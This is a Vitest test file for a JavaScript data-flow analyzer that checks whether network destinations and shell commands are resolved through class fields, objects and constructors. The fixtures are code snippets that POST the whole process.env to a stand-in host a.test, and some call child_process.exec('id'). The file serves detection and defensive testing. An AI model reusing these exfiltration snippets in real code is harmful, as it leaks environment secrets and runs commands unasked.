import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';

/** Where what a source sends goes to. */
function targets(source: string): string[] {
  const sent = analyzeJs(source).flow.flows.filter(({ sink }) => sink === 'network');
  return sent.flatMap((flow) => flow.targets.map(({ text }) => text));
}

const SENT = "{ method: 'POST', body: JSON.stringify(process.env) }";

test.each([
  ['a field', `class A { url = 'https://a.test/c'; send() { fetch(this.url, ${SENT}); } }`],
  ['a private field', `class A { #url = 'https://a.test/c'; send() { fetch(this.#url, ${SENT}); } }`],
  ['a static field', `class A { static url = 'https://a.test/c'; send() { fetch(A.url, ${SENT}); } }`],
  [
    'what a constructor sets',
    `class A { constructor() { this.url = 'https://a.test/c'; } send() { fetch(this.url, ${SENT}); } }`,
  ],
  [
    'what a constructor sets when nobody says otherwise',
    `class A { constructor(o) { this.url = o.url ?? 'https://a.test/c'; } send() { fetch(this.url, ${SENT}); } }`,
  ],
  [
    'what a function sets of what it makes',
    `function A() { this.url = 'https://a.test/c'; }\nA.prototype.send = function () { fetch(this.url, ${SENT}); };`,
  ],
  ['an object', `const o = { url: 'https://a.test/c' }; exports.send = () => fetch(o.url, ${SENT});`],
  [
    'an object in an object',
    `const o = { to: { url: 'https://a.test/c' } }; exports.send = () => fetch(o.to.url, ${SENT});`,
  ],
  [
    'a part of an address',
    `class A { #host = 'https://a.test'; send() { fetch(this.#host + '/c', ${SENT}); } }`,
  ],
  [
    'options',
    `class A { #to = { hostname: 'a.test' }; send() { require('https').request(this.#to).end(JSON.stringify(process.env)); } }`,
  ],
  [
    'a client',
    `class A { #api = require('axios').create({ baseURL: 'https://a.test' }); send() { this.#api.post('/c', process.env); } }`,
  ],
])('what a member holds is known: %s', (_, source) => {
  expect(targets(source)[0]).toMatch(/^(?:https:\/\/)?a\.test/);
});

test.each([
  [
    'of several values',
    `class A { url = 'https://a.test/c'; to(url) { this.url = url; } send() { fetch(this.url, ${SENT}); } }`,
  ],
  [
    'that is set afterwards',
    `const o = { url: 'https://a.test/c' }; exports.to = (url) => { o.url = url; }; exports.send = () => fetch(o.url, ${SENT});`,
  ],
  [
    'of a name that stands for several objects',
    `let o = { url: 'https://a.test/c' }; exports.set = (x) => { o = x; }; exports.send = () => fetch(o.url, ${SENT});`,
  ],
  ['that holds itself', `class A { url = this.url; send() { fetch(this.url, ${SENT}); } }`],
])('what a member holds is not known: %s', (_, source) => {
  expect(targets(source)).toEqual([]);
});

test('what a computed member may hold is what the object holds', () => {
  expect(
    targets(`const o = { url: 'https://a.test/c' }; exports.send = (k) => fetch(o[k], ${SENT});`),
  ).toEqual(['https://a.test/c']);
});

test.each([
  ['a module', "class A { cp = require('child_process'); run() { this.cp.exec('id'); } }"],
  [
    'a function',
    "class A { #run; constructor() { this.#run = require('child_process').exec; } run() { this.#run('id'); } }",
  ],
])('what a member stands for has its name: %s', (_, source) => {
  expect(analyzeJs(source).commands).toMatchObject([{ name: 'child_process.exec', line: 'id' }]);
});

test('of a member that is written twice, the last counts, as when it runs', () => {
  expect(
    targets(
      `const o = { url: 'https://b.test', url: 'https://a.test/c' }; exports.send = () => fetch(o.url, ${SENT});`,
    ),
  ).toEqual(['https://a.test/c']);
  expect(
    analyzeJs("exports.run = () => require('child_process').exec(({ a: 'ls', a: 'id' }).a);").commands,
  ).toMatchObject([{ line: 'id' }]);
});
